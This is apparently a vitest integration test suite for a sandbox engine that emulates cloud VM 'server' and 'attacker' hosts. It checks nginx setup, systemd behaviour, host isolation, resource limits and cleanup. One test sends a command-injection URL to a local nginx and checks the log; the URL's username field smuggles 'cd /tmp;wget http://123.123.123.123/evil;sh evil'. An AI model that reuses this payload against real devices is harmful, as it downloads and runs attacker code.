import { readFile, stat } from 'node:fs/promises';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { sandboxId } from '#engines/sandbox/assemble.ts';
import { cgroupTop, readUsage } from '#engines/sandbox/cgroup.ts';
import { sandboxEngine, statusOf } from '#engines/sandbox/driver.ts';
import { execArgv, resizeArgv } from '#engines/sandbox/exec.ts';
import { imageRoot, placeOf, taskLimit } from '#engines/sandbox/input.ts';
import {
  applyHost,
  buildImage,
  consoleOf,
  debian11,
  eventually,
  hostInput,
  inside,
  removeHost,
  runAndKill,
  type SandboxWorld,
  sandboxWorld,
  scriptEnds,
} from '../sandbox-world.ts';

/** As the document gives it to `gcloud compute instances create server`. */
const startupScript = '#! /bin/bash\nsudo apt-get update\nsudo apt-get -qq -y install nginx';

const server = hostInput('server', { startupScript });
/** Its memory has room for as many processes as it may have. */
const attacker = hostInput('attacker', { memoryMb: 384, cpus: 0.5 });

const startUntilRefused = `
import os, signal
for stream in 1, 2:
    os.set_inheritable(stream, False)
children = []
try:
    while len(children) < ${taskLimit(attacker)}:
        children.append(os.posix_spawn('/bin/sleep', ['sleep', '1000'], {}))
    print('never refused')
# The C library of Debian 11 has a wrong number for the reason.
except OSError:
    print('refused' if len(children) > 100 else 'refused too early')
for child in children:
    os.kill(child, signal.SIGKILL)
`;

let world: SandboxWorld;

const answers = async (): Promise<boolean> => {
  const argv = ['curl', '--silent', '--max-time', '2', '--output', '/dev/null', 'http://127.0.0.1/'];
  return (await world.machine.exec(argv, { namespace: 'server' })).code === 0;
};
const pidOf = async (host: { name: string }): Promise<number | undefined> => (await statusOf(world.machine, host)).pid;

beforeAll(async () => {
  world = await sandboxWorld();
  await buildImage(world, debian11);
  for (const host of [server, attacker]) {
    await world.machine.addNamespace(host.namespace);
    await applyHost(world, host);
  }
  await scriptEnds(world, server);
  await eventually('the attacker runs', async () => (await pidOf(attacker)) !== undefined);
}, 600_000);

afterAll(() => world.cleanup(), 120_000);

test('the startup script of the document installs nginx without a network, and it answers', async () => {
  expect(await answers()).toBe(true);
});

test('the serial log holds what the startup script said and how it ended', async () => {
  const log = await consoleOf(world, server);
  expect(log).toMatch(
    /^\w{3} [ \d]\d \d\d:\d\d:\d\d server google_metadata_script_runner\[\d+\]: Starting startup scripts/m,
  );
  expect(log).toContain('startup-script: Setting up nginx ');
  expect(log).toContain('startup-script exit status 0');
});

test('a host trusts what the deployment’s own authority issues, and goes on to when the list is made anew', async () => {
  const { certificate } = await world.machine.authority.issue({
    id: 'here',
    names: ['www.gstatic.com'],
    addresses: [],
  });
  const ways = ['-CApath /etc/ssl/certs', '-CAfile /etc/ssl/certs/ca-certificates.crt'];
  for (const [when, first] of Object.entries({ 'at boot': 'true', 'made anew': 'update-ca-certificates' })) {
    for (const way of ways) {
      const command = `${first} >/dev/null 2>&1; openssl verify ${way} <<'END'\n${certificate}END`;
      const { stdout, stderr } = await inside(world, server, command);
      expect(`${when} ${way} ${stdout}${stderr}`).toContain('stdin: OK');
    }
  }
});

test('curl of Debian 11 sends the raw spaces of the document, and nginx takes the request', async () => {
  const { stdout: version } = await inside(world, server, 'curl --version');
  expect(version).toMatch(/^curl 7\.74\.0 /);
  const url = "http://127.0.0.1/weblogin.cgi?username=admin';cd /tmp;wget http://123.123.123.123/evil;sh evil;rm evil";
  expect((await inside(world, server, { argv: ['curl', '--silent', url] })).code).toBe(0);
  const { stdout: seen } = await inside(world, server, 'tail -n 1 /var/log/nginx/access.log');
  expect(seen).toContain(
    `"GET /weblogin.cgi?username=admin';cd /tmp;wget http://123.123.123.123/evil;sh evil;rm evil HTTP/1.1"`,
  );
});

test('systemctl status nginx looks like the one in the document', async () => {
  const { code, stdout } = await inside(world, server, 'sudo systemctl status nginx');
  expect(code).toBe(0);
  expect(stdout).toMatch(
    /^● nginx\.service - A high performance web server and a reverse proxy server\n {5}Loaded: loaded \(\/lib\/systemd\/system\/nginx\.service; enabled; vendor preset: enabled\)\n {5}Active: active \(running\) since \w{3} \d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC; .* ago\n {7}Docs: man:nginx\(8\)\n/,
  );
  expect(stdout).toMatch(/Main PID: \d+ \(nginx\)\n {6}Tasks: \d+ \(limit: 448\)\n/);
  expect(stdout).toMatch(
    /CGroup: \/system\.slice\/nginx\.service\n +├─\d+ nginx: master process .*\n( +├─\d+ nginx: worker process\n)* +└─\d+ nginx: worker process/,
  );
  expect(stdout).toMatch(/server systemd\[1\]: Started A high performance web server and a reverse proxy server\./);
});

test('systemctl speaks with the exit codes of systemd', async () => {
  const code = async (command: string) => (await inside(world, server, command)).code;
  expect(await code('systemctl status nothing')).toBe(4);
  expect(await code('systemctl start nothing')).toBe(5);
  expect(await code('systemctl is-enabled nginx')).toBe(0);
  expect(await code('systemctl stop nginx')).toBe(0);
  expect(await code('systemctl status nginx')).toBe(3);
  expect(await code('systemctl is-active nginx')).toBe(3);
  expect(await answers()).toBe(false);
  expect(await code('systemctl start nginx && systemctl reload nginx && systemctl restart nginx')).toBe(0);
  expect(await answers()).toBe(true);
});

test('a service that dies is started again when its unit asks for it', async () => {
  const unit = '[Unit]\nDescription=Sleeper\n[Service]\nExecStart=/bin/sleep 1000\nRestart=always\nUser=debian\n';
  await inside(world, server, `printf '${unit.replaceAll('\n', '\\n')}' >/etc/systemd/system/sleeper.service`);
  const main = async () => (await inside(world, server, 'systemctl show --value -p MainPID sleeper')).stdout.trim();
  await inside(world, server, 'systemctl daemon-reload; systemctl start sleeper');
  const first = await main();
  expect(Number(first)).toBeGreaterThan(1);
  await inside(world, server, `kill -KILL ${first}`);
  await eventually('it runs again', async () => ![first, '0'].includes(await main()), 200);
  expect((await inside(world, server, 'systemctl stop sleeper; systemctl is-active sleeper')).stdout).toBe(
    'inactive\n',
  );
});

test('the login user becomes root by sudo, as the document has it', async () => {
  const write = "cd /var/www/html && sudo touch eicar.file && echo 'a harmless test' | sudo tee eicar.file";
  const { code, stdout } = await inside(world, server, { argv: ['bash', '-c', write], user: 'debian' });
  expect({ code, stdout }).toEqual({ code: 0, stdout: 'a harmless test\n' });
  const refused = await inside(world, server, { argv: ['touch', '/var/www/html/x'], user: 'debian' });
  expect(refused.code).not.toBe(0);
});

test('host keys are made at the first boot and are not those of another host', async () => {
  const key = async (host: typeof server) =>
    (await inside(world, host, 'cat /etc/ssh/ssh_host_ed25519_key.pub')).stdout;
  await eventually(
    'both have keys',
    async () => /^ssh-/.test(await key(server)) && /^ssh-/.test(await key(attacker)),
    200,
  );
  expect(await key(server)).not.toBe(await key(attacker));
});

test('mounting, links, namespaces and devices are refused to root inside', async () => {
  for (const command of [
    'mount -t tmpfs x /mnt',
    'ip link add x type dummy',
    'ip address add 10.0.0.1/32 dev lo',
    'unshare --user true',
    'unshare --net true',
    'mknod /tmp/disk b 8 0',
    'echo 1 >/proc/sys/kernel/panic',
    'chmod 0600 /dev/null',
    'nsenter --target 1 --net true',
  ]) {
    const { code, stderr } = await inside(world, server, command);
    expect({ command, code, stderr }).not.toMatchObject({ code: 0 });
  }
});

test('the streams of the machine stay its own, also when they are given to a command', async () => {
  const owner = async () => (await stat('/dev/null')).uid;
  const argv = execArgv(world.machine, server.name, { argv: ['true'] });
  await world.machine.exec(['sh', '-c', '"$@" </dev/null >/dev/null 2>/dev/null', 'sh', ...argv]);
  expect(await owner()).toBe(0);
});

test('ping works for everybody inside', async () => {
  const { code } = await inside(world, server, { argv: ['ping', '-c', '1', '127.0.0.1'], user: 'debian' });
  expect(code).toBe(0);
});

test("one host never sees another's files or processes", async () => {
  await inside(world, server, 'echo secret >/root/mine; sleep 4321 >/dev/null 2>&1 &');
  const seen = await inside(world, attacker, 'cat /root/mine; ls -R /run/vauban /proc/1/root/root; ps ax');
  expect(seen.stdout).not.toContain('secret');
  expect(seen.stdout).not.toContain('4321');
  const path = `${placeOf(world.machine, server.name).disk}/upper/root/mine`;
  expect((await inside(world, attacker, `cat ${path}`)).code).not.toBe(0);
});

test('more memory than the machine type has is killed, and the host lives on', async () => {
  const { code } = await inside(world, attacker, 'python3 -c "x = bytearray(600 << 20)"');
  expect(code).toBe(137);
  expect((await inside(world, attacker, 'true')).code).toBe(0);
});

test('processor time and the number of processes end at the machine type', async () => {
  const { cgroup } = placeOf(world.machine, attacker.name);
  // The kernel's own clock of the limit: it may have half a processor's time in each period, however busy the machine is.
  const periods = async () => {
    const stat = (path: string) => readFile(`${cgroupTop}/${path}/cpu.stat`, 'utf8');
    return Number(/^nr_periods (\d+)$/m.exec(await stat(`cpu${cgroup}`).catch(() => stat(cgroup)))?.[1]);
  };
  const spent = async () => (await readUsage(cgroup))?.cpu ?? Number.NaN;
  const before = { periods: await periods(), spent: await spent() };
  // Two at once, each until it has had a second.
  await inside(world, attacker, 'for n in 1 2; do (ulimit -t 1; while :; do :; done) & done; wait');
  const after = { spent: await spent(), periods: await periods() };
  const seconds = (after.spent - before.spent) / 1e9;
  expect(seconds).toBeGreaterThan(1.5);
  expect(seconds).toBeLessThan((after.periods - before.periods + 2) * 0.1 * attacker.cpus);
  // Bash would try again for seconds where one more is refused.
  const { code, stdout, stderr } = await inside(world, attacker, { argv: ['python3', '-c', startUntilRefused] });
  expect([code, stdout, stderr]).toEqual([0, 'refused\n', '']);
  expect((await inside(world, attacker, 'true')).code).toBe(0);
});

test('a terminal has the asked size, and a new one when it is told', async () => {
  const session = { session: 'one', rows: 33, columns: 99 };
  const watch =
    'stty size; for n in $(seq 200); do [ "$(stty size)" = "44 111" ] && break; sleep 0.05; done; stty size';
  const running = inside(world, server, { argv: ['bash', '-c', watch], terminal: session });
  await eventually('it watches', async () => (await inside(world, server, 'ps ax')).stdout.includes('"44 111"'));
  await world.machine.exec(resizeArgv(world.machine, server.name, 'one', { rows: 44, columns: 111 }));
  const { code, stdout } = await running;
  expect(code).toBe(0);
  expect(stdout).toMatch(/33 99\r\n44 111\r\n$/);
});

test('what an instance uses is told under its owner', async () => {
  const artifact = world.held.get(sandboxId(server.name));
  if (artifact === undefined || sandboxEngine.observe === undefined) throw new Error('nothing is held');
  const { state, values } = await sandboxEngine.observe(world.machine, artifact);
  expect(state).toBe('ready');
  expect(values[server.name]).toMatchObject({ running: 1 });
  expect(values[server.name]?.memoryBytes).toBeGreaterThan(1_000_000);
  expect(values[server.name]?.tasks).toBeGreaterThan(3);
});

test('a change of names reaches a running host without a boot', async () => {
  const before = await pidOf(server);
  const hosts = [{ address: '192.168.10.10', names: ['attacker'] }];
  await applyHost(world, { ...server, hosts });
  expect((await inside(world, server, 'getent hosts attacker')).stdout).toMatch(/^192\.168\.10\.10 +attacker/);
  expect(await pidOf(server)).toBe(before);
});

test('applying twice changes nothing', async () => {
  const before = await pidOf(server);
  await applyHost(world, { ...server, hosts: [] });
  await applyHost(world, { ...server, hosts: [] });
  expect(await pidOf(server)).toBe(before);
});

test('stopping and starting keeps files and brings enabled services back', async () => {
  await inside(world, server, 'echo kept >/root/kept');
  await applyHost(world, { ...server, running: false });
  expect((await statusOf(world.machine, server)).state).toBe('TERMINATED');
  expect(await answers()).toBe(false);
  await applyHost(world, { ...server, startupScript: 'echo again' });
  await eventually('nginx answers', answers);
  expect((await inside(world, server, 'cat /root/kept')).stdout).toBe('kept\n');
  await eventually('the new startup script ran', async () =>
    (await consoleOf(world, server)).includes('startup-script: again'),
  );
});

test('a host that switched itself off stays off until it is started', async () => {
  await inside(world, attacker, 'sudo poweroff');
  const state = async () => (await statusOf(world.machine, attacker)).state;
  await eventually('it is off', async () => (await state()) === 'TERMINATED');
  await applyHost(world, attacker);
  expect(await state()).toBe('TERMINATED');
  await applyHost(world, { ...attacker, running: false });
  await applyHost(world, attacker);
  await eventually('it runs', async () => (await state()) === 'RUNNING');
});

test('a host that is rebooted or killed boots again', async () => {
  for (const end of ['reboot', 'kill'] as const) {
    const before = await pidOf(attacker);
    if (end === 'reboot') await inside(world, attacker, 'reboot');
    else await world.machine.exec(['kill', '-KILL', String(before)]);
    await eventually(`it is back after ${end}`, async () => ![before, undefined].includes(await pidOf(attacker)));
  }
});

test('the golden bundle is the one that crun booted', async () => {
  const place = placeOf(world.machine, attacker.name);
  const shape = (text: string) => {
    const { linux, mounts, process } = JSON.parse(text);
    const { seccomp, maskedPaths, readonlyPaths, uidMappings, gidMappings } = linux;
    const targets = mounts.map((it: { destination: string; type: string }) => [it.destination, it.type]);
    return { seccomp, maskedPaths, readonlyPaths, uidMappings, gidMappings, targets, rights: process.capabilities };
  };
  const golden = await readFile(`${world.machine.home}/src/engines/sandbox/golden/server.config.json.txt`, 'utf8');
  expect(shape(await readFile(`${place.bundle}/config.json`, 'utf8'))).toEqual(shape(golden));
});

test('an instance goes on when the agent that started it is killed', async () => {
  const host = hostInput('orphan', { namespace: 'attacker', memoryMb: 128 });
  const { machine } = world;
  await runAndKill(`
    import { testMachine } from './test/machine.ts';
    import { smallSupervisor } from './test/small-supervisor.ts';
    import { sandboxEngine } from '#engines/sandbox/driver.ts';
    const base = await testMachine();
    await base.cleanup();
    const machine = { ...base, deployment: '${machine.deployment}', state: '${machine.state}', run: '${machine.run}',
      namespace: (name) => 'vbt-${machine.deployment}-' + name, supervisor: smallSupervisor('${machine.run}/supervisor') };
    const input = ${JSON.stringify(host)};
    await sandboxEngine.apply(machine, { id: 'sandbox/orphan', engine: 'sandbox', owners: [], needs: [], input });
    console.log('done');
    setInterval(() => {}, 1000);
  `);
  world.held.set(sandboxId(host.name), {
    id: sandboxId(host.name),
    engine: 'sandbox',
    owners: [],
    needs: [],
    input: host,
  });
  await eventually('it runs', async () => (await inside(world, host, 'true')).code === 0, 200);
  await removeHost(world, host);
});

test('an image is built once, whichever deployment asks', async () => {
  const root = imageRoot(world.machine, server.image, server.imageHash);
  const before = (await stat(root)).ino;
  const other = await sandboxWorld();
  try {
    await Promise.all([buildImage(world, debian11), buildImage(other, debian11)]);
    expect((await stat(imageRoot(other.machine, server.image, server.imageHash))).ino).toBe(before);
  } finally {
    await other.cleanup();
  }
});

test('a removed host leaves no mount, no cgroup, no process and no folder', async () => {
  const { machine } = world;
  for (const host of [server, attacker]) await removeHost(world, host);
  await removeHost(world, server);
  const cgroups = await machine.exec([
    'find',
    '/sys/fs/cgroup',
    '-type',
    'd',
    '-path',
    `*/vauban/${machine.deployment}*`,
  ]);
  expect(cgroups.stdout).toBe('');
  const folders = await machine.exec(['find', machine.state, machine.run, '-path', '*instances*']);
  expect(folders.stdout).toBe('');
  expect(await readFile('/proc/self/mounts', 'utf8')).not.toContain(machine.run);
  const processes = await machine.exec(['ps', '-e', '-ww', '-o', 'args']);
  expect(processes.stdout.split('\n').filter((line) => line.includes(`vauban-${machine.deployment}-`))).toEqual([]);
});
